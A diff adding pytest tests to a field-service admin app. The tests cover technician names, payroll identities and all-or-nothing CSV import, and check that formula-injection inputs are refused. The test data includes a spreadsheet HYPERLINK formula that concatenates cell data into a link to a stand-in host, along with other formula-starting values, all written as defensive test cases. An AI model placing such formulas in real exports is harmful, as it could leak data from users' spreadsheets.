@@ -14,6 +14,7 @@ from hub.store.models import (
     Depot,
     Kiosk,
     LegRebuildRequest,
+    PayrollIdentity,
     Technician,
     User,
     VehicleAssignment,
@@ -134,6 +135,81 @@ def test_work_orders_from_csv_all_or_nothing(client, auth, seeded):
                            content_type="multipart/form-data")
     assert response.status_code == 422 and b"line 3: lat" in response.data and b'data-field="file"' in response.data
     assert "WO-30" not in {w.id for w in stored(seeded[0], WorkOrder)}
+
+
+def test_a_technicians_names_and_payroll_identities_are_edited_on_their_page(client, auth, seeded):
+    """Issue 17 #1: given and family names kept apart; an identity per payroll system."""
+    auth.login("ada")
+    data = {**TECH, "name": "José Núñez Ruiz", "given_name": "José", "family_name": "Núñez Ruiz", "adp": "300",
+            "paychex": "JNR300", "gusto": "a1b2c3", "iif": "Núñez Ruiz, José"}
+    assert client.post("/admin/technicians/", data=data).status_code == 302
+    (tech,) = [t for t in stored(seeded[0], Technician) if t.id == "T-300"]
+    assert (tech.given_name, tech.family_name) == ("José", "Núñez Ruiz")
+    identities = {i.provider: (i.employee_id, i.employee_name) for i in stored(seeded[0], PayrollIdentity)
+                  if i.technician_id == "T-300"}
+    assert identities == {"adp": ("000300", None), "paychex": ("JNR300", None), "gusto": ("a1b2c3", None),
+                          "iif": (None, "Núñez Ruiz, José")}
+    page = client.get("/admin/technicians/T-300").get_data(as_text=True)
+    assert 'value="000300"' in page and 'value="Núñez Ruiz, José"' in page
+    assert client.post("/admin/technicians/T-300", data={**data, "gusto": ""}).status_code == 302
+    assert "gusto" not in {i.provider for i in stored(seeded[0], PayrollIdentity) if i.technician_id == "T-300"}
+
+
+def test_bad_identities_and_formula_names_are_refused_at_entry_next_to_their_field(client, auth, seeded):
+    """Issue 17 #4, #5, #7 (CWE-1236): nothing saved, the field named."""
+    auth.login("ada")
+    for field, value, says in (
+        ("adp", "T-300", "not 1 to 6 digits"), ("paychex", "JNR-300", "letters and digits"),
+        ("iif", "Nguyễn, Văn", "Windows-1252"), ("gusto", "g100", "is T-100"),
+        ("name", '=HYPERLINK("http://x"&A1,"Click")', "runs as a formula"),
+        ("family_name", "@Park", "runs as a formula"), ("given_name", "+Lee", "runs as a formula"),
+    ):
+        response = client.post("/admin/technicians/", data={**TECH, field: value})
+        page = response.get_data(as_text=True)
+        assert response.status_code == 422 and f'data-field="{field}"' in page and says in page, field
+    assert "T-300" not in {t.id for t in stored(seeded[0], Technician)}
+    work_order = {"id": "WO-40", "customer": "=1+2", "title": "Boiler", "radius_m": "100", "depot_id": "north"}
+    response = client.post("/admin/work-orders/", data=work_order)
+    assert response.status_code == 422 and b'data-field="customer"' in response.data
+    response = client.post("/admin/work-orders/", data={**work_order, "customer": "Acme", "quickbooks_job": "-Acme:1"})
+    assert response.status_code == 422 and b'data-field="quickbooks_job"' in response.data
+    assert client.post("/admin/work-orders/", data={**work_order, "customer": "Acme, Inc.",
+                                                     "quickbooks_job": "Acme, Inc.:WO-40"}).status_code == 302
+    assert {w.id: w.quickbooks_job for w in stored(seeded[0], WorkOrder)}["WO-40"] == "Acme, Inc.:WO-40"
+
+
+def test_work_order_csv_refuses_formula_customers_naming_the_line(client, auth, seeded):
+    auth.login("ada")
+    bad = "id,customer,title,depot_id\nWO-30,Acme,B,north\nWO-31,@SUM(A1),B,north\n"
+    response = client.post("/admin/work-orders/import", data={"file": (io.BytesIO(bad.encode()), "wo.csv")},
+                           content_type="multipart/form-data")
+    assert response.status_code == 422 and b"line 3: customer:" in response.data
+    assert "WO-30" not in {w.id for w in stored(seeded[0], WorkOrder)}
+
+
+def test_payroll_identities_from_csv_all_or_nothing(client, auth, seeded):
+    auth.login("ada")
+    good = ("\ufefftechnician_id,provider,employee_id,employee_name\n"
+            "T-100,adp,100,\nT-101,adp,000101,\nT-100,iif,,\"Lopez, Maria\"\nT-200,gusto,,\n")
+    response = client.post("/admin/technicians/identities/import",
+                           data={"file": (io.BytesIO(good.encode()), "ids.csv")}, content_type="multipart/form-data")
+    assert response.status_code == 302
+    found = {(i.technician_id, i.provider): (i.employee_id, i.employee_name) for i in stored(seeded[0], PayrollIdentity)}
+    assert found[("T-100", "adp")] == ("000100", None) and found[("T-101", "adp")] == ("000101", None)
+    assert found[("T-100", "iif")] == (None, "Lopez, Maria") and ("T-200", "gusto") not in found
+    for bad, says in (
+        ("technician_id,provider,employee_id,employee_name\nT-100,paychex,P100,\nT-101,adp,=1+2,\n",
+         "line 3: employee_id: ADP file number"),
+        ("technician_id,provider,employee_id,employee_name\nT-999,adp,1,\n", "line 2: no technician"),
+        ("technician_id,provider,employee_id,employee_name\nT-100,sage,1,\n", "line 2: provider: choose one of"),
+        ("technician_id,provider,employee_id,employee_name\nT-101,adp,100,\n", "line 2: employee_id: ADP file number 000100 is T-100"),
+        ("technician_id,provider,employee_id,employee_name\nT-101,iif,,@Carter\n", "line 2: employee_name"),
+    ):
+        response = client.post("/admin/technicians/identities/import",
+                               data={"file": (io.BytesIO(bad.encode()), "ids.csv")}, content_type="multipart/form-data")
+        page = response.get_data(as_text=True)
+        assert response.status_code == 422 and says in page and 'data-field="file"' in page, (says, page[-800:])
+    assert ("T-100", "paychex") not in {(i.technician_id, i.provider) for i in stored(seeded[0], PayrollIdentity)}
 
 
 def test_job_titles_that_track_time(client, auth, seeded):
